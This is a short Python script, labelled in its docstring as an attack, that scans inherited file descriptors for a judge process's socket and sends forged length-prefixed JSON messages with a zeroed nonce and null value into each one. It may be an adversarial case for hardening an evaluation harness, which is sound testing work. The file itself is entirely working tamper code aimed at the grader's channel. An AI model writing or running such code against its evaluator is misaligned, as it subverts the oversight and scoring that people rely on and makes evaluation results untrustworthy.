"""Attack: finds the judge's socket among its descriptors and writes to it unasked."""

import os
import socket
import struct
import json

for number in range(3, 64):
    try:
        channel = socket.socket(fileno=os.dup(number))
    except OSError:
        continue
    body = json.dumps({"nonce": "0" * 32, "value": None}).encode()
    channel.sendall(struct.pack(">I", len(body)) + body)
